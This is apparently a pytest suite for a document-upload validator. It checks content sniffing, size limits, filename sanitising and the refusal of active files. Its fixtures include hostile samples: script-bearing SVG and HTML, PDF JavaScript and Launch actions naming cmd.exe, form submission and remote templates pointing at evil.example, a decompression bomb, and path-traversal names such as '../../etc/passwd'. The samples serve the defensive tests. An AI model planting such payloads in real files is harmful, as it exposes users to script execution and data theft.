import base64
import struct
import zipfile
import zlib
from io import BytesIO

import pytest
import typst
from docx import Document
from hypothesis import given
from hypothesis import strategies as st

from consult.core.errors import Refused
from consult.core.files import MOST_BYTES, check_size, inspect, safe_name

GIF = base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")
WEBP_LOSSY = base64.b64decode("UklGRiIAAABXRUJQVlA4IBYAAAAwAQCdASoBAAEADsD+JaQAA3AAAAAA")
WEBP_LOSSLESS = base64.b64decode("UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==")
WEBP_EXTENDED = base64.b64decode(
    "UklGRkoAAABXRUJQVlA4WAoAAAAQAAAAAAAAAAAAQUxQSAwAAAARBxAR/Q9ERP8DAABWUDggGAAAABQBAJ0BKgEAAQAAAP4AAA3AAP7mtQAAAA=="
)


def png(width: int = 2, height: int = 3) -> bytes:
    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    rows = zlib.compress(b"\x00\xff\xff\xff" * 3)
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def jpeg(width: int = 4, height: int = 5) -> bytes:
    app = b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    frame = b"\xff\xc0\x00\x0b\x08" + struct.pack(">HH", height, width) + b"\x01\x01\x11\x00"
    return b"\xff\xd8" + app + frame + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00\x7f\xff\xd9"


def pdf(*objects: bytes, version: bytes = b"1.7") -> bytes:
    return b"%PDF-" + version + b"\n" + b"\n".join(objects) + b"\ntrailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n"


CATALOG = b"1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >> endobj"


def object_stream(content: bytes, filters: bytes = b"/FlateDecode", name: bytes = b"/ObjStm") -> bytes:
    packed = zlib.compress(content)
    return b"7 0 obj << /Type %s /Filter %s /Length %d >> stream\n%s\nendstream endobj" % (
        name,
        filters,
        len(packed),
        packed,
    )


def docx(changes: dict[str, bytes | None] | None = None, like: bytes | None = None) -> bytes:
    """A real Word document, with parts replaced, added or (None) left out."""
    source = BytesIO()
    document = Document()
    document.add_paragraph("Member States should consult.")
    document.save(source)
    target, changes = BytesIO(), dict(changes or {})
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = changes.pop(name, old.read(name))
            if content is not None:
                new.writestr(name, content)
        for name, content in changes.items():
            new.writestr(name, content)
    return target.getvalue()


def refusal(data: bytes, name: str = "paper.pdf") -> str:
    with pytest.raises(Refused) as refused:
        inspect(data, name)
    return refused.value.sentence


@pytest.mark.parametrize(
    ("data", "media_type", "extension"),
    [
        (png(), "image/png", "png"),
        (jpeg(), "image/jpeg", "jpg"),
        (GIF, "image/gif", "gif"),
        (WEBP_LOSSY, "image/webp", "webp"),
        (WEBP_LOSSLESS, "image/webp", "webp"),
        (WEBP_EXTENDED, "image/webp", "webp"),
        (pdf(CATALOG), "application/pdf", "pdf"),
        (docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "docx"),
    ],
)
def test_a_file_is_known_by_its_content_whatever_its_name(data, media_type, extension):
    kind = inspect(data, "anything.exe")
    assert (kind.media_type, kind.extension) == (media_type, extension)


def test_a_real_typeset_pdf_is_accepted():
    assert inspect(typst.compile(b"= Norms\nMember States should consult."), "norms.pdf").extension == "pdf"


@pytest.mark.parametrize(
    "data",
    [
        b"MZ\x90\x00\x03",
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        b"<html><script>alert(1)</script></html>",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 an old Word document",
        b"just text",
        b"RIFF\x00\x00\x00\x00WAVE",
        b"\n%PDF-1.7 a header that is not at the start %%EOF",
    ],
)
def test_other_kinds_are_refused_naming_what_is_accepted(data):
    assert refusal(data, "C:\\temp\\paper.pdf") == (
        '"paper.pdf" is none of the kinds that can be attached: PDF, Word (DOCX), PNG, JPEG, GIF or WEBP.'
    )


def test_an_empty_file_is_refused():
    assert refusal(b"") == '"paper.pdf" is empty.'


@pytest.mark.parametrize("data", [png(), jpeg(), GIF, WEBP_LOSSY, pdf(CATALOG), docx()])
def test_a_file_cut_short_is_refused(data):
    assert "damaged" in refusal(data[: len(data) // 2])


@pytest.mark.parametrize("build", [png, jpeg])
def test_a_picture_with_too_many_pixels_is_refused(build):
    assert refusal(build(30_000, 10)) == '"paper.pdf" has 30,000 by 10 pixels, too many to show. Make it smaller.'
    assert "too many" in refusal(build(10_000, 10_000))
    assert "damaged" in refusal(build(0, 5))


def test_a_picture_with_a_changed_header_is_refused():
    assert "damaged" in refusal(png().replace(struct.pack(">II", 2, 3), struct.pack(">II", 9, 9)))


@pytest.mark.parametrize(
    ("act", "why"),
    [
        (b"<< /S /JavaScript /JS (app.alert(1)) >>", "holds a script"),
        (b"<< /S /Java#53cript /JS (app.alert(1)) >>", "holds a script"),
        (b"<< /S /Launch /F (cmd.exe) >>", "starts something"),
        (b"<< /S /SubmitForm /F (https://evil.example) >>", "starts something"),
        (b"<< /Type /EmbeddedFile >>", "holds other files"),
        (b"<< /Names << /EmbeddedFiles 5 0 R >> >>", "holds other files"),
        (b"<< /Subtype /RichMedia >>", "holds other files"),
        (b"<< /XFA [] >>", "interactive form"),
        (b"<< /Encrypt 5 0 R >>", "password"),
    ],
)
def test_a_pdf_that_can_act_is_refused(act, why):
    assert why in refusal(pdf(CATALOG, b"4 0 obj " + act + b" endobj"))
    assert why in refusal(pdf(CATALOG, object_stream(act)))
    assert why in refusal(pdf(CATALOG, object_stream(act, filters=b"[ /FlateDecode ]", name=b"/Obj#53tm")))


def test_an_object_stream_behind_a_false_stream_is_found():
    decoy = b"(stream\n) % >> stream\n"
    assert "script" in refusal(pdf(CATALOG, decoy, object_stream(b"<< /S /JavaScript >>")))


@pytest.mark.parametrize("filters", [b"[/ASCIIHexDecode /FlateDecode]", b"/LZWDecode", b"9 0 R"])
def test_objects_packed_in_an_unusual_way_are_refused(filters):
    assert "cannot be checked" in refusal(pdf(CATALOG, object_stream(b"<< >>", filters=filters)))


def test_an_object_stream_cut_short_is_refused():
    whole = object_stream(b"<< /Type /Page >>" * 50)
    assert "damaged" in refusal(pdf(CATALOG, whole.replace(b"\nendstream", b"", 1)[:-30] + b"\nendstream endobj"))


def test_a_pdf_that_unpacks_without_end_is_refused():
    assert "too large" in refusal(pdf(CATALOG, object_stream(b"\x00" * (65 * 1024 * 1024))))


def test_words_that_only_begin_like_an_act_are_accepted():
    assert inspect(pdf(CATALOG, b"4 0 obj << /Launcher 1 /XFAmily 2 >> endobj"), "a.pdf").extension == "pdf"


@pytest.mark.parametrize("name", ["word/vbaProject.bin", "word/activeX/activeX1.xml", "word/embeddings/oleObject1.bin"])
def test_a_word_document_with_macros_or_programs_is_refused(name):
    assert "macros or embedded programs" in refusal(docx({name: b"x"}))


def test_a_macro_document_renamed_to_docx_is_refused():
    types = zipfile.ZipFile(BytesIO(docx())).read("[Content_Types].xml")
    macro = types.replace(b"wordprocessingml.document.main+xml", b"wordprocessingml.document.main+xml macroEnabled")
    assert "macros" in refusal(docx({"[Content_Types].xml": macro}))


def relationship(kind: bytes, target: bytes) -> bytes:
    base = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    return (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        b'Type="%s%s" Target="%s" TargetMode="External"/></Relationships>' % (base, kind, target)
    )


def test_a_template_from_elsewhere_is_refused_and_a_link_is_not():
    where = "word/_rels/settings.xml.rels"
    bad = docx({where: relationship(b"attachedTemplate", b"https://evil.example/t.dotm")})
    assert "from elsewhere" in refusal(bad)
    assert "from elsewhere" in refusal(docx({where: relationship(b"image", b"https://evil.example/pixel.png")}))
    assert "from elsewhere" in refusal(
        docx({where: relationship(b"attachedTemplate", b"//evil.example").decode().encode("utf-16")})
    )
    assert inspect(docx({where: relationship(b"hyperlink", b"https://un.example")}), "a.docx").extension == "docx"


@pytest.mark.parametrize("missing", ["[Content_Types].xml", "word/document.xml"])
def test_a_packed_file_that_is_no_word_document_is_refused(missing):
    assert "no Word document" in refusal(docx({missing: None}))


def test_entities_in_a_word_document_are_refused():
    assert "no Word document" in refusal(
        docx({"word/document.xml": b'<!DOCTYPE x [<!ENTITY a "aaaa">]><w:document>&a;</w:document>'})
    )


def test_a_bomb_is_refused():
    assert "too large" in refusal(docx({"word/media/a.xml": b"\x00" * (40 * 1024 * 1024)}))


def test_parts_that_lead_outside_are_refused():
    assert "lead outside" in refusal(docx({"../../evil.txt": b"x"}))


def test_too_many_parts_are_refused():
    assert "3,000 are allowed" in refusal(docx({f"word/p{n}.xml": b"" for n in range(3001)}))


def test_a_damaged_part_is_refused():
    data = bytearray(docx())
    at = data.index(b"word/document.xml") + 60
    data[at : at + 20] = b"\xff" * 20
    assert "damaged" in refusal(bytes(data))


@given(st.sampled_from([png(), jpeg(), GIF, WEBP_LOSSY, pdf(CATALOG), docx()]), st.integers(0, 10_000), st.binary())
def test_damage_anywhere_gives_a_sentence_and_never_an_error(data, at, patch):
    at %= len(data)
    try:
        inspect(data[:at] + patch + data[at + len(patch) :], "x")
    except Refused as refused:
        assert refused.sentence.endswith(".")


def test_a_file_above_the_limit_is_refused():
    check_size(MOST_BYTES)
    with pytest.raises(Refused) as refused:
        check_size(MOST_BYTES + 1)
    assert refused.value.sentence == "The file has 10.1 MB; 10 MB are allowed."


def test_a_file_too_large_together_with_the_others_is_refused():
    check_size(10, [20], most_in_all=30)
    with pytest.raises(Refused) as refused:
        check_size(MOST_BYTES, [MOST_BYTES] * 4)
    assert refused.value.sentence == (
        "With this file the attachments would have 50 MB; 40 MB are allowed for one candidate. Remove one first."
    )


def test_inspection_refuses_by_size_before_it_reads():
    with pytest.raises(Refused, match="are allowed"):
        inspect(png() * 10, "a.png", most=100)


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("statement.pdf", "statement.pdf"),
        ("C:\\Users\\x\\statement.pdf", "statement.pdf"),
        ("../../etc/passwd", "passwd"),
        ("คำแถลง ของไทย.pdf", "คำแถลง ของไทย.pdf"),
        ("សេចក្តី\u200bថ្លែង.pdf", "សេចក្តី\u200bថ្លែង.pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),
        ("a\x00b\r\nc\td.pdf", "ab c d.pdf"),
        ('a"b<c>d|e?.pdf', "a_b_c_d_e_.pdf"),
        ("...hidden", "hidden"),
        (" .. ", "file"),
        ("", "file"),
        ("con.pdf", "_con.pdf"),
        ("Vie\u0323\u0302t.pdf", "Vi\u1ec7t.pdf"),
    ],
)
def test_names_lose_what_is_unsafe_and_keep_their_letters(name, expected):
    assert safe_name(name) == expected


def test_a_name_ends_as_its_content_says():
    assert safe_name("photo.JPEG", "jpg") == "photo.jpg"
    assert safe_name("notes.exe", "pdf") == "notes.exe.pdf"
    assert safe_name("notes", "pdf") == "notes.pdf"
    assert safe_name("", "png") == "file.png"


def test_a_long_name_is_cut_between_letters_and_keeps_its_ending():
    name = safe_name("น้ำ" * 100 + ".pdf", "pdf")
    assert name == "น้ำ" * 38 + ".pdf"
    assert len(safe_name("a" * 500)) == 120


@given(st.text(), st.sampled_from([None, "pdf", "jpg"]))
def test_any_name_becomes_safe_and_stays_so(name, extension):
    safe = safe_name(name, extension)
    assert 0 < len(safe) <= 120
    assert not set(safe) & set('/\\:*?"<>|\x00\r\n\u202e')
    assert not safe.startswith((".", " ")) and not safe.endswith((".", " "))
    assert safe_name(safe, extension) == safe
    safe.encode()
